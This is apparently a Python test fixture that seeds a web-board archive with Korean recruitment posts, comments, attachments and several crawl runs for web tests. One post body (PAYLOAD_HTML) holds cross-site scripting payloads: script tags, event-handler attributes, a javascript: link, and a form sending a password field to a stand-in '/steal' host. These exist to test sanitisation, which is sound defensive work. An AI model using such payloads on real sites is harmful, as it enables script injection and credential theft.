"""A small archive for the web tests, written through ``archive.store.ingest`` as a crawl would.

Two boards. ``press`` holds an edited post (title, body, author, category, posted time and
attachments change over three versions), a notice, a post carrying script payloads, a deleted
post, a secret post and a few more; ``notice`` holds two posts. Runs over four nights, one
suspect and one failed.

Comments: 101's question is edited, another comment deleted, an answer added.
Files: 101's PDF is stored in each of its sizes, its form (지원서 양식.hwp) is refused by the
board; 106's body has three images: one stored (a PNG), one on another host (skipped), one
the board failed to serve. With ``blob_dir`` the stored files are put in that blob store;
without, only their rows and ``blobs`` rows are written.
"""

from __future__ import annotations

import hashlib
import struct
import zlib
from datetime import UTC, datetime, timedelta
from pathlib import Path

from sqlalchemy import Engine
from sqlalchemy.orm import Session

from archive import items as it
from archive.blobs import BlobStore
from archive.config import board_from_values
from archive.files import file_entries
from archive.models import CrawlRun, RunHealth, RunMode, RunStatus
from archive.revisit import RevisitPolicy
from archive.store import ensure_board, ingest_batch

T0 = datetime(2026, 11, 20, 17, 30, tzinfo=UTC)  # 02:30 KST on 21 November
NIGHT = timedelta(days=1)
PRESS = board_from_values("press", {"url": "http://127.0.0.1:9/bbs/board.php?bo_table=press"})
NOTICE = board_from_values("notice", {"url": "http://127.0.0.1:9/bbs/board.php?bo_table=notice"})

EDITED_TITLES = (
    "2026년 상반기 신입사원 채용 공고",
    "2026년 하반기 신입사원 채용 공고 (마감 연장)",
    "2026년 하반기 신입사원 채용 공고 (마감 연장)",
)
EDITED_BODIES = (
    "하늘항공이 2026년 신입사원을 모집합니다.\n\n접수 기간은 11월 30일까지입니다.\n"
    "서류 전형과 면접을 거쳐 최종 합격자를 발표합니다.",
    "하늘항공이 2026년 신입사원을 모집합니다.\n\n접수 기간은 12월 7일까지로 연장되었습니다.\n"
    "서류 전형과 면접을 거쳐 최종 합격자를 발표합니다.",
    "하늘항공이 2026년 신입사원을 모집합니다.\n\n접수 기간은 12월 7일까지로 연장되었습니다.\n"
    "서류 전형과 면접을 거쳐 최종 합격자를 발표합니다.\n문의: 인사팀 채용 담당",
)
PAYLOAD_HTML = (
    "<p>행사 안내문입니다.</p>"
    "<script>document.title='pwned';window.__pwned='script'</script>"
    '<img src="http://203.0.113.9/poster.png" alt="행사 포스터" '
    "onerror=\"window.__pwned='onerror';document.title='pwned'\">"
    '<svg onload="window.__pwned=\'svg\'"><circle r="4"/></svg>'
    "<a href=\"javascript:window.__pwned='href'\">자세히</a>"
    '<iframe src="http://203.0.113.9/frame"></iframe>'
    '<link rel="stylesheet" href="http://203.0.113.9/evil.css">'
    '<p style="background:url(http://203.0.113.9/bg.png)">참가 신청은 홈페이지에서.</p>'
    '<object data="http://203.0.113.9/x.swf"></object>'
    '<form action="http://203.0.113.9/steal"><input name="pw"></form>'
    "<details open ontoggle=\"window.__pwned='details'\"><summary>더보기</summary>내용</details>"
)


PDF_V1 = "%PDF-1.4\n% 채용공고 1.2M\n%%EOF\n".encode()
PDF_V2 = "%PDF-1.4\n% 채용공고 1.4M (마감 연장)\n%%EOF\n".encode()
MAP_URL = "http://127.0.0.1:9/data/editor/2611/map.png"
REMOTE_URL = "http://203.0.113.9/banner.jpg"
GONE_URL = "http://127.0.0.1:9/data/editor/2611/gone.gif"
REFUSED = "the board answered with an alert: 다운로드 권한이 없습니다."
IMAGES_HTML = (
    "<p>협력사를 모집합니다. 채용과는 무관합니다.</p>"
    '<p><img src="/data/editor/2611/map.png" alt="모집 지역 지도"></p>'
    '<p><img src="http://203.0.113.9/banner.jpg" alt="배너"></p>'
    '<p><img src="/data/editor/2611/gone.gif"></p>'
)


def png(width: int = 240, height: int = 96, rgb: tuple[int, int, int] = (31, 95, 191)) -> bytes:
    """A real PNG of one colour."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        body = kind + data
        return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))

    rows = b"".join(b"\x00" + bytes(rgb) * width for _ in range(height))
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(rows))
        + chunk(b"IEND", b"")
    )


MAP_PNG = png()


def sha256(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


def outcome(
    item: it.Post,
    kind: str,
    position: int,
    status: str,
    store: BlobStore | None,
    data: bytes = b"",
    **kw: str,
) -> it.FileOutcome:
    """What the crawl sends for one entry of ``item``; a stored file goes into ``store``."""
    entry = next(e for e in file_entries(item) if (e.kind.value, e.position) == (kind, position))
    stored = status == "stored"
    if stored and store is not None:
        store.put(data)
    return it.FileOutcome(
        post_id=item.post_id,
        kind=kind,
        key=entry.key,
        url=entry.url or "",
        status=status,
        sha256=sha256(data) if stored else None,
        size=len(data) if stored else None,
        **kw,  # type: ignore[arg-type]
    )


def _url(board: str, post_id: str) -> str:
    return f"http://127.0.0.1:9/bbs/board.php?bo_table={board}&wr_id={post_id}"


def post(board: str, post_id: str, title: str, body: str, **kw: object) -> it.Post:
    values: dict[str, object] = {
        "author": "관리자",
        "posted_at": datetime(2026, 11, 17, 5, 14, tzinfo=UTC),
        "body_html": "".join(f"<p>{line}</p>" for line in body.split("\n") if line),
        "views": 10,
        "comment_count": 0,
        "notice": False,
    }
    values.update(kw)
    return it.Post(
        post_id=post_id,
        url=_url(board, post_id),
        title=title,
        body_text=body,
        **values,  # type: ignore[arg-type]
    )


def _comment(cid: str, author: str, hour: int, text: str) -> it.Comment:
    return it.Comment(cid, author, datetime(2026, 11, 21, hour, 5, tzinfo=UTC), text)


QUESTION = _comment("1", "김민수", 1, "지원 자격에 나이 제한이 있나요?")
# 101's comments as each version's page showed them: the question is edited, the second
# comment deleted (the list of v3's page is complete), an answer added
COMMENTS: tuple[tuple[it.Comment, ...], ...] = (
    (),
    (QUESTION, _comment("2", "이영희", 3, "접수 마감일이 언제인가요?")),
    (
        _comment("1", "김민수", 1, QUESTION.text + "\n경력직도 지원할 수 있는지 궁금합니다."),
        _comment("3", "인사팀", 9, "답변: 나이 제한은 없으며 경력직도 지원할 수 있습니다."),
    ),
)


def edited(n: int) -> it.Post:
    """Version ``n`` (0-based) of press post 101."""
    attachments = (
        (it.Attachment("채용공고.pdf", "1.2M"),),
        (it.Attachment("채용공고.pdf", "1.4M"), it.Attachment("지원서 양식.hwp", "48K")),
        (it.Attachment("채용공고.pdf", "1.4M"), it.Attachment("지원서 양식.hwp", "48K")),
    )[n]
    return post(
        "press",
        "101",
        EDITED_TITLES[n],
        EDITED_BODIES[n],
        author=("인사팀", "인사팀", "인사팀 채용담당")[n],
        category=("채용", "채용", "채용/인턴")[n],
        posted_at=datetime(2026, 11, 17, 5, 14 + (n == 2), tzinfo=UTC),
        attachments=attachments,
        views=100 + n * 50,
        comment_count=(0, 2, 2)[n],
        comments=COMMENTS[n],
    )


def _run(
    engine: Engine,
    board_cfg: object,
    at: datetime,
    outcomes: list[it.ViewOutcome | it.FileOutcome],
    *,
    status: RunStatus = RunStatus.SUCCEEDED,
    health: RunHealth = RunHealth.OK,
    notes: list[str] | None = None,
    requests: int = 12,
    errors: int = 0,
) -> None:
    with Session(engine) as s, s.begin():
        board_id = ensure_board(s, board_cfg, at)  # type: ignore[arg-type]
        run = CrawlRun(
            board_id=board_id,
            started_at=at,
            status=RunStatus.RUNNING,
            mode=RunMode.INCREMENTAL if at > T0 else RunMode.FULL,
        )
        s.add(run)
        s.flush()
        counts = ingest_batch(
            s, board_id, run.id, outcomes, at + timedelta(minutes=1), RevisitPolicy()
        )
        run.status = status
        run.finished_at = at + timedelta(minutes=3, seconds=12)
        run.requests, run.pages, run.errors = requests, requests, errors
        run.posts_seen, run.new_posts, run.new_versions = (
            counts.posts_seen,
            counts.new_posts,
            counts.new_versions,
        )
        run.edited_posts, run.deleted_posts = counts.edited, counts.deleted
        run.restored_posts = counts.restored
        run.files_downloaded = counts.files_downloaded
        run.bytes_downloaded, run.files_skipped = counts.bytes_downloaded, counts.files_skipped
        run.health, run.health_notes = health, notes


def seed_archive(engine: Engine, blob_dir: Path | None = None) -> None:
    store = BlobStore(blob_dir) if blob_dir is not None else None
    others = [
        post(
            "press",
            str(i),
            f"보도자료 {i}호: 지역 기업 수출 상담회 개최",
            f"수출 상담회 {i}회차 결과",
        )
        for i in range(90, 96)
    ]
    v1 = edited(0)
    first: list[it.ViewOutcome | it.FileOutcome] = [
        v1,
        post(
            "press",
            "102",
            "개인정보 처리방침 개정 안내",
            "개인정보 처리방침이 개정됩니다.",
            notice=True,
        ),
        post(
            "press",
            "103",
            "연말 행사 안내",
            "행사 안내문입니다.\n참가 신청은 홈페이지에서.",
            body_html=PAYLOAD_HTML,
        ),
        post("press", "104", "잘못 올린 공지", "곧 지워질 글입니다."),
        it.SecretPost("105", _url("press", "105"), title="비밀 문의", author="홍길동"),
        *others,
    ]
    first.append(outcome(v1, "attachment", 0, "stored", store, PDF_V1, filename="채용공고.pdf"))
    _run(engine, PRESS, T0, first, requests=25)
    _run(
        engine,
        NOTICE,
        T0 + timedelta(minutes=5),
        [
            post("notice", "7", "시스템 점검 안내", "채용 사이트 점검으로 접속이 제한됩니다."),
            post("notice", "8", "Holiday schedule", "The office is closed on 25 December."),
        ],
        requests=4,
    )
    v2 = edited(1)
    _run(
        engine,
        PRESS,
        T0 + NIGHT,
        [
            v2,
            it.PostNotFound("104", _url("press", "104")),
            outcome(v2, "attachment", 0, "stored", store, PDF_V2, content_type="application/pdf"),
            outcome(v2, "attachment", 1, "refused", store, reason=REFUSED),
        ],
    )
    _run(
        engine,
        PRESS,
        T0 + 2 * NIGHT,
        [],
        status=RunStatus.FAILED,
        health=RunHealth.FAILED,
        notes=["list page 1 failed: HTTP 503"],
        requests=1,
        errors=1,
    )
    v3 = edited(2)
    images = post(
        "press",
        "106",
        "신규 협력사 모집",
        "협력사를 모집합니다. 채용과는 무관합니다.",
        body_html=IMAGES_HTML,
        images=(MAP_URL, REMOTE_URL, GONE_URL),
    )
    _run(
        engine,
        PRESS,
        T0 + 3 * NIGHT,
        [
            v3,
            images,
            outcome(v3, "attachment", 1, "refused", store, reason=REFUSED),
            outcome(images, "image", 0, "stored", store, MAP_PNG, content_type="image/png"),
            outcome(images, "image", 1, "skipped", store, reason="on another host: 203.0.113.9"),
            outcome(images, "image", 2, "failed", store, reason="HTTP 404"),
        ],
        health=RunHealth.SUSPECT,
        notes=["page 1 had 3 rows, usually 15"],
    )
